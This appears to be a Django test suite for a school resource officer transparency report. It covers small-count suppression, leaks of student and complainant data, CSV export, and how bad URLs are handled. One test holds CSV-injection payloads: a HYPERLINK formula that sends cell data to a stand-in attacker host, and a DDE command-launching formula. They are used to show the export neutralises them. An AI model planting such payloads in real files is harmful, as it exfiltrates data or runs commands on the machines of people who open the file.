"""The public transparency figures: computed from the demo's reviewed records, small counts
withheld with complementary suppression, no student identifiable, CSV and data dictionary. A
year's CSV is its release (sro.public.releases), published after the release day: the tests of
the demo year's CSV travel to then (AFTER)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections import Counter
from typing import Any

import pytest
import time_machine
from django.test import override_settings

from conftest import Demo
from sro.incidents.models import IncidentPerson
from sro.public.tests.helpers import AFTER, YEAR
from sro.public.transparency import OUTCOMES, csv_rows, transparency
from sro.rules.suppression import SuppressedTable, Table


def _reviewed_students(agency: Any = None) -> Any:
    """The students with an outcome in the demo year's reviewed (approved) incidents."""
    found = IncidentPerson.objects.filter(kind="student", incident__status="approved").exclude(
        disposition=""
    )
    found = found.filter(incident__occurred_at__gte=dt.datetime(2026, 7, 1, tzinfo=dt.UTC))
    return found.filter(incident__agency=agency) if agency is not None else found


def _table(figures: Any, key: str) -> Any:
    return next(t for t in figures.tables if t.key == key)


@override_settings(SRO_PUBLIC_MIN_COUNT=1)
def test_with_no_threshold_the_figures_are_the_demo_records(demo: Demo) -> None:
    figures = transparency(demo.agency.pk, demo.agency.name, YEAR)
    by_school = _table(figures, "by_school")
    # Four students with a disposition in the reviewed incidents (an adult's is not counted,
    # nor a draft's or one waiting for review): 1 referred to school, 2 diversion or
    # restorative justice, 1 citation.
    assert by_school.total == 4
    assert by_school.column_totals == (1, 2, 0, 1, 0)
    students = _reviewed_students()
    assert students.count() == 4
    for key in ("sex", "race_ethnicity", "disability", "english_learner"):
        table = _table(figures, key)
        assert table.total == 4
        assert table.column_totals == by_school.column_totals  # every table adds up the same
        recorded = {label: total for label, _, total in table.rows}
        assert sum(recorded.values()) == students.count()
    learners = {label: t for label, _, t in _table(figures, "english_learner").rows}
    assert learners["English learner"] == students.filter(english_learner=True).count()


def test_with_the_default_threshold_every_small_count_is_withheld(demo: Demo) -> None:
    figures = transparency(demo.agency.pk, demo.agency.name, YEAR)
    assert figures.threshold == 10
    for table in figures.tables:
        for _, cells, total in table.rows:
            assert all(n in (None, 0) for n in cells)
            assert total in (None, 0)
        assert table.total is None  # 4 students: below the threshold


@override_settings(SRO_PUBLIC_MIN_COUNT=2)
def test_no_withheld_count_is_alone_in_a_row_or_column(demo: Demo) -> None:
    figures = transparency(demo.agency.pk, demo.agency.name, YEAR)
    for table in figures.tables:
        lines = [[*cells, total] for _, cells, total in table.rows]
        lines.append([*table.column_totals, table.total])
        columns = [list(c) for c in zip(*lines, strict=True)]
        for line in [*lines, *columns]:
            assert sum(n is None for n in line) != 1, (table.key, line)


def test_the_page_names_no_student(client: Any, demo: Demo) -> None:
    body = client.get("/public/transparency/").content.decode()
    assert "What happened to students SROs dealt with" in body
    assert "By race and ethnicity" in body
    assert "data-dictionary.csv" in body
    people = IncidentPerson.objects.all()
    for last, born in people.values_list("last_name", "date_of_birth"):
        assert last not in body
        if born:
            assert born.isoformat() not in body


@override_settings(SRO_PUBLIC_MIN_COUNT=1)
def test_the_csv_has_every_figure(client: Any, demo: Demo) -> None:
    with time_machine.travel(AFTER):
        response = client.get(f"/public/transparency/{demo.agency.pk}/{YEAR}.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    figures = transparency(demo.agency.pk, demo.agency.name, YEAR)
    assert len(rows) == len(csv_rows(figures))
    total = next(
        r
        for r in rows
        if r["table"] == "by_school"
        and r["row"] == "All students"
        and r["column"] == "All outcomes"
    )
    assert total["value"] == "4"
    dictionary = client.get("/public/transparency/data-dictionary.csv").content.decode()
    assert dictionary.startswith("column,meaning")
    assert "withheld" in dictionary


def test_the_csv_withholds_as_the_page_does(client: Any, demo: Demo) -> None:
    with time_machine.travel(AFTER):
        text = client.get(f"/public/transparency/{demo.agency.pk}/{YEAR}.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    values = {r["value"] for r in rows if r["table"] != "complaints"}
    assert values <= {"withheld", "0"}
    received = next(r for r in rows if r["table"] == "complaints" and r["column"] == "received")
    assert received["value"] == "3"  # complaints about officers: public counts, not suppressed


@pytest.mark.parametrize(
    "url",
    [
        "/public/transparency/{pk}/2026.csv",
        "/public/transparency/00000000-0000-0000-0000-000000000000/2026-27.csv",
    ],
)
def test_a_bad_address_is_not_found(client: Any, demo: Demo, url: str) -> None:
    assert client.get(url.format(pk=demo.agency.pk)).status_code == 404


def test_an_unknown_year_shows_the_latest_published_one(client: Any, demo: Demo) -> None:
    response = client.get("/public/transparency/", {"school_year": "1999"})
    assert response.status_code == 200
    assert "students SROs dealt with, 2025-26" in response.content.decode()


def test_the_schools_table_has_the_programs_facts_only(client: Any, demo: Demo) -> None:
    figures = transparency(demo.agency.pk, demo.agency.name, YEAR)
    central = next(s for s in figures.schools if s.name == "Central Lakes High School")
    assert "Dana Lindqvist" in central.officers
    assert central.audit.startswith("completed")
    assert (central.recommendations_closed, central.recommendations) == (1, 4)
    assert not hasattr(central, "force")  # force counts are published suppressed, on /public/
    body = client.get("/public/transparency/").content.decode()
    assert "Schools served" in body


def test_complaints_are_counted_without_a_word_of_them(client: Any, demo: Demo) -> None:
    from sro.complaints.models import Complaint

    figures = transparency(demo.agency.pk, demo.agency.name, YEAR)
    assert figures.complaints is not None
    assert figures.complaints.received == Complaint.objects.filter(agency=demo.agency).count() == 3
    assert figures.complaints.closed == 1
    assert dict(figures.complaints.outcomes)["Not sustained"] == 1
    body = client.get("/public/transparency/").content.decode()
    assert "Complaints about SROs" in body
    for complaint in Complaint.objects.all():
        assert complaint.reference not in body
        assert complaint.narrative[:40] not in body
        if complaint.complainant_name:
            assert complaint.complainant_name not in body


# Every public page and CSV answers well whatever year or agency the address names (issue 23,
# finding 12: the CSV of a year without students was a server error).

UNKNOWN = "00000000-0000-0000-0000-000000000000"


def test_a_published_year_without_students_has_a_page_and_a_csv_of_zeros(
    client: Any, demo: Demo
) -> None:
    """The other agency had no students in 2025-26: its release (published at the first
    request) is tables of zeros."""
    page = client.get("/public/transparency/", {"school_year": "2025-26"})
    assert page.status_code == 200
    assert "students SROs dealt with, 2025-26" in page.content.decode()
    response = client.get(f"/public/transparency/{demo.other_agency.pk}/2025-26.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    figures = [r for r in rows if r["table"] != "complaints"]
    # No school had a student, so that table is only its line of totals (one per outcome and
    # the grand total); the groups keep their rows. Every figure is zero.
    by_school = [r for r in figures if r["table"] == "by_school"]
    assert [r["row"] for r in by_school] == ["All students"] * 6
    assert {r["table"] for r in figures} == {
        "by_school",
        "sex",
        "race_ethnicity",
        "disability",
        "english_learner",
    }
    assert {r["value"] for r in figures} == {"0"}


@pytest.mark.parametrize(
    ("year", "says"),
    [
        pytest.param("2019-20", "No figures were published for 2019-20.", id="a past year"),
        pytest.param("2031-32", "will be published on August 29, 2032.", id="a future year"),
        pytest.param("1900-01", "No figures were published for 1900-01.", id="the earliest"),
        pytest.param("2098-99", "will be published on August 29, 2099.", id="the last year"),
    ],
)
def test_a_year_without_a_release_has_a_page_that_says_so(
    client: Any, demo: Demo, year: str, says: str
) -> None:
    page = client.get("/public/transparency/", {"school_year": year})
    assert page.status_code == 200
    body = " ".join(page.content.decode().split())
    assert f"students SROs dealt with, {year}" in body
    assert says in body
    assert "<table" not in body
    assert client.get(f"/public/transparency/{demo.agency.pk}/{year}.csv").status_code == 404


@pytest.mark.parametrize(
    "year",
    [
        "2026",
        "2026-28",
        "9999-00",
        "0000-01",
        "1000-01",
        "2099-00",
        "x" * 300,
        "2026-27\u202e",
        "-2026-27",
    ],
    ids=[
        "bare year",
        "skips a year",
        "beyond the calendar",
        "year zero",
        "before 1900",
        "ends after 2099",
        "long",
        "rtl",
        "dash",
    ],
)
def test_a_bad_year_is_not_found_in_the_csv_and_the_page_shows_the_latest_published(
    client: Any, demo: Demo, year: str
) -> None:
    assert client.get(f"/public/transparency/{demo.agency.pk}/{year}.csv").status_code == 404
    page = client.get("/public/transparency/", {"school_year": year})
    assert page.status_code == 200
    assert "students SROs dealt with, 2025-26" in page.content.decode()


@pytest.mark.parametrize(
    "url",
    [
        f"/public/transparency/{UNKNOWN}/2019-20.csv",
        f"/public/transparency/{UNKNOWN}/9999-00.csv",
        f"/public/schools/{UNKNOWN}/",
        f"/public/schools/{UNKNOWN}/letter/",
        f"/public/agencies/{UNKNOWN}/policy/",
        f"/public/agencies/{UNKNOWN}/policy/1/",
    ],
)
def test_an_unknown_agency_or_school_is_not_found(client: Any, demo: Demo, url: str) -> None:
    assert client.get(url).status_code == 404


def test_the_agency_without_students_or_schools_has_a_csv(client: Any, demo: Demo) -> None:
    with time_machine.travel(AFTER):
        response = client.get(f"/public/transparency/{demo.other_agency.pk}/{YEAR}.csv")
    assert response.status_code == 200
    assert client.get("/public/").status_code == 200


@override_settings(SRO_PUBLIC_MIN_COUNT=1)
def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(client: Any, demo: Demo) -> None:
    """A school or agency named like a spreadsheet formula must not run when the CSV is opened
    (issue 23, finding 10): the cell starts with a quote, as in every other CSV export."""
    from sro.roster.services import save_agency
    from sro.schools.services import save_school

    school = demo.high_school
    school.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    save_school(school, actor=demo.users["chief"])
    agency = demo.agency
    agency.name = "+cmd|' /C calc'!A0"
    save_agency(agency, actor=demo.users["chief"])
    with time_machine.travel(AFTER):  # the year is published with these names
        response = client.get(f"/public/transparency/{demo.agency.pk}/{YEAR}.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{school.name}" in cells
    assert f"'{agency.name}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# No withheld count can be worked out from the page's figures (issue 23, finding 3).


def _truth_and_published(text: str, agency: Any) -> tuple[list[Table], tuple[SuppressedTable, ...]]:
    """The true counts, counted here from the records, and what the CSV publishes of them."""
    published: dict[str, dict[str, dict[str, str]]] = {}
    for r in csv.DictReader(io.StringIO(text)):
        if r["table"] != "complaints":
            published.setdefault(r["table"], {}).setdefault(r["row"], {})[r["column"]] = r["value"]
    outcome = {d: key for key, _, ids in OUTCOMES for d in ids}
    learner = {True: "English learner", False: "Not an English learner", None: "Not recorded"}
    students = _reviewed_students(agency)
    label = {
        "by_school": lambda p: p.incident.school.name,
        "sex": lambda p: p.get_sex_display() if p.sex else "Not recorded",
        "race_ethnicity": lambda p: (
            p.get_race_ethnicity_display() if p.race_ethnicity else "Not recorded"
        ),
        "disability": lambda p: p.get_disability_display() if p.disability else "Not recorded",
        "english_learner": lambda p: learner[p.english_learner],
    }
    columns = [name for _, name, _ in OUTCOMES]
    keys = tuple(key for key, _, _ in OUTCOMES)
    tables, outs = [], []

    def value(text: str) -> int | None:
        return None if text == "withheld" else int(text)

    for key, of in label.items():
        lines = [row for row in published[key] if row != "All students"]
        counts = Counter((of(p), outcome[p.disposition]) for p in students)
        assert sum(counts.values()) == students.count()
        assert {row for row, _ in counts} <= set(lines)
        matrix = tuple(tuple(counts[row, k] for k in keys) for row in lines)
        tables.append(Table(matrix, len(keys), column_keys=keys, total_key="students"))
        outs.append(
            SuppressedTable(
                cells=tuple(tuple(value(published[key][row][c]) for c in columns) for row in lines),
                row_totals=tuple(value(published[key][row]["All outcomes"]) for row in lines),
                column_totals=tuple(value(published[key]["All students"][c]) for c in columns),
                total=value(published[key]["All students"]["All outcomes"]),
            )
        )
    return tables, tuple(outs)


@pytest.mark.parametrize("threshold", [2, 3, 10])
def test_no_withheld_count_can_be_worked_out_from_the_csv(
    client: Any, demo: Demo, threshold: int
) -> None:
    """The CSV's five tables are solved together, with the totals they share, by the rules'
    independent solver: no withheld count is determined, nor fixed by what a reader knows."""
    from tests.rules.test_suppression import assert_nothing_withheld_can_be_worked_out

    with override_settings(SRO_PUBLIC_MIN_COUNT=threshold), time_machine.travel(AFTER):
        text = client.get(f"/public/transparency/{demo.agency.pk}/{YEAR}.csv").content.decode()
    tables, published = _truth_and_published(text, demo.agency)
    assert any(n is None for t in published for row in t.cells for n in row)
    assert_nothing_withheld_can_be_worked_out(tables, published, threshold)


@pytest.mark.parametrize(("threshold", "shown"), [(10, "1 to 9"), (5, "1 to 4")])
def test_the_page_and_the_dictionary_say_how_counts_are_withheld(
    client: Any, demo: Demo, threshold: int, shown: str
) -> None:
    with override_settings(SRO_PUBLIC_MIN_COUNT=threshold):
        page = " ".join(client.get("/public/transparency/").content.decode().split())
        # The index shows the latest release with the threshold it was published with.
        with time_machine.travel(AFTER):
            index = " ".join(client.get("/public/").content.decode().split())
    assert "How small counts are withheld" in page
    assert f"A count from {shown} is shown as “withheld”" in page
    assert "combining several rows, columns and tables" in page
    assert "at least 1" in page
    assert "A withheld count can therefore be large" in page
    assert f"a count from {shown} is withheld" in index
    assert "those with a prone restraint would give those without one" in index
    dictionary = client.get("/public/transparency/data-dictionary.csv").content.decode()
    assert "combining rows, columns, totals and tables" in dictionary
    assert "A withheld count can be large" in dictionary
